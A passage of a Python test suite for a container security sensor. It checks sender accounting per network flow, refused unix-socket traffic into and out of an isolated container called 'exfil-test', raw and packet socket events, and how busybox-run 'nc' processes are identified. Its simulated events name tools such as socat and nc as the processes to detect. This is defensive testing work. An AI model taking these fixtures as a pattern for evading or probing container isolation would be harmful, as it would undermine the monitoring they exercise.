    SENDER_MEMORY_WINDOWS pass without a sample of it."""
    from sensor.telemetry.counters import SENDER_MEMORY_WINDOWS

    w = WindowCounters()
    key = (1, "198.51.100.1", 443, 6)
    w.set_owner(key, 100, "x", cookie=1)
    for _ in range(8):
        w.add_sample(key, RNG.randbytes(64), False, 65_000, True, cookie=1)
    (s,), _e, _h = w.close([])
    assert [p for p, _c, _n in s.senders] == [100]
    w.set_owner(key, 200, "backup", cookie=2)
    w.add_sample(key, b"ok\n", True, 3, True, cookie=2)
    (s,), _e, _h = w.close([])
    assert s.senders == [(100, "x", 0), (200, "backup", 3)] and s.pid == 100
    for _ in range(SENDER_MEMORY_WINDOWS):
        w.add_sample(key, b"ok\n", True, 3, True, cookie=2)
        w.close([])
    w.add_sample(key, b"ok\n", True, 3, True, cookie=2)
    (s,), _e, _h = w.close([])
    assert s.senders == [(200, "backup", 3)]


def test_churning_small_senders_cannot_push_out_a_big_one() -> None:
    from sensor.telemetry.counters import MAX_SENDERS_PER_FLOW

    w = WindowCounters()
    key = (1, "198.51.100.1", 443, 6)
    w.set_owner(key, 100, "x", cookie=1)
    w.add_sample(key, RNG.randbytes(64), True, 65_000, True, cookie=1)
    w.close([])
    for c in range(2, 3 * MAX_SENDERS_PER_FLOW):
        w.set_owner(key, 1000 + c, "backup", cookie=c)
        w.add_sample(key, b"ok\n", True, 3, True, cookie=c)
        (s,), _e, _h = w.close([])
        assert s.pid == 100 and len(s.senders) <= MAX_SENDERS_PER_FLOW
    assert w.senders_capped > 0


# --- unix connects into an isolated container (BPF LSM) ----------------------


def test_a_refused_unix_call_across_an_isolated_container_names_both_ends(tmp_path: Path, fake_docker: Any) -> None:
    """The isolated container is the document's (container.*), the caller
    is process.*, the other end sluice.unix.peer; said without telemetry
    too: a connect and a datagram into it (from the host, from another
    container), and a datagram out of it."""
    fake_docker.add(A, "exfil-test", "alpine:3.20", "sha256:" + "a" * 64)
    w = make_world(tmp_path, fake_docker.socket_path, events=False)
    replay(
        w,
        [
            unix_into_rec(PID, w.host_cg, w.cg, comm=b"socat"),
            unix_into_rec(PID2, w.cg_sub, w.cg, comm=b"perl", op=E.UNIX_INTO_SEND),
            unix_into_rec(PID2, w.cg, w.host_cg, comm=b"logger", op=E.UNIX_OUT_SEND),
        ],
    )
    (host,) = w.by_action("unix_socket_connect_into")
    assert host["container"]["id"] == A and host["process"]["pid"] == PID
    assert host["sluice"]["unix"] == {"op": "connect", "denied": True, "peer": {"host": True}}
    assert host["network"]["direction"] == "ingress"
    assert host["message"] == (
        f"refused: socat (pid {PID}, in the host (/system.slice/cron.service)) connected to a unix socket of"
        " container exfil-test, which is isolated"
    ), host["message"]
    assert host["event"]["type"] == ["connection", "denied"] and host["event"]["outcome"] == "failure"
    (sent,) = w.by_action("unix_socket_send_into")
    assert sent["sluice"]["unix"]["peer"] == {"host": False, "container": {"id": A, "name": "exfil-test"}}
    (out,) = w.by_action("unix_socket_send_out")
    assert out["container"]["id"] == A and out["network"]["direction"] == "egress"
    assert out["sluice"]["unix"]["peer"] == {"host": True} and out["process"]["pid"] == PID2
    assert "out of its isolated container to a unix socket of the host" in out["message"], out["message"]
    assert w.pipe.counts["unix_into_events"] == 3
    check_all(w)


# --- AF_PACKET sockets seen by the tracepoints (no BPF LSM) ------------------


def test_packet_socket_hooks_name_what_happened(world: World) -> None:
    """sock_send_length reports a packet socket at its send (type unknown);
    sys_enter_socket at creation; denied there means the process was killed."""
    replay(
        world,
        [
            socket_rec(PID, world.cg, sock_type=0, protocol=0x0608, hook=E.SOCKET_HOOK_SEND, comm=b"arping"),
            socket_rec(PID2, world.cg, sock_type=3, denied=True, hook=E.SOCKET_HOOK_SYSCALL, comm=b"arping"),
            socket_rec(PID, world.cg, sock_type=0, denied=True, hook=E.SOCKET_HOOK_SEND, comm=b"arping"),
            # raw inet refused by cgroup sock_create (EPERM): nobody to kill
            socket_rec(PID2, world.cg, family=2, sock_type=3, denied=True, hook=E.SOCKET_HOOK_CGROUP),
        ],
    )
    sent, created, after_send, refused = (d for d in world.docs if d["event"]["dataset"] == "sluice.socket")
    assert sent["event"]["action"] == "raw_socket_created" and sent["sluice"]["socket"]["type"] == "unknown"
    assert sent["sluice"]["socket"]["hook"] == "sock_send_length" and sent["message"].startswith("sent on:")
    assert created["event"]["action"] == "raw_socket_denied" and created["sluice"]["socket"]["type"] == "SOCK_RAW"
    assert created["sluice"]["socket"]["hook"] == "sys_enter_socket" and "killed at creation" in created["message"]
    assert after_send["message"].startswith("process killed after its first send on:")
    assert refused["message"].startswith("refused:")
    check_all(world)


def test_proc_self_exe_of_a_process_already_gone_is_its_parents_file(world: World) -> None:
    """busybox runs its applets as /proc/self/exe; a short-lived one is gone
    before /proc/<pid>/exe is read, and stayed "/proc/self/exe" (CI: the
    same nc was two executables at random, so two alerts' suppression keys
    differed or not by chance). A fork runs its parent's file until it
    execs: that is what /proc/self/exe named."""
    gone = 2**22 + 4321  # above any pid_max: never a live process
    replay(
        world,
        [
            exec_rec(pid=gone - 1, cgroup_id=world.cg, ktime_ns=NS, comm=b"sh", filename=b"/bin/busybox"),
            exec_rec(
                pid=gone, cgroup_id=world.cg, ktime_ns=NS + 1000, comm=b"nc", filename=b"/proc/self/exe", ppid=gone - 1
            ),
        ],
    )
    execs = world.by_action("exec")
    assert [d["process"]["executable"] for d in execs] == ["/bin/busybox", "/bin/busybox"]
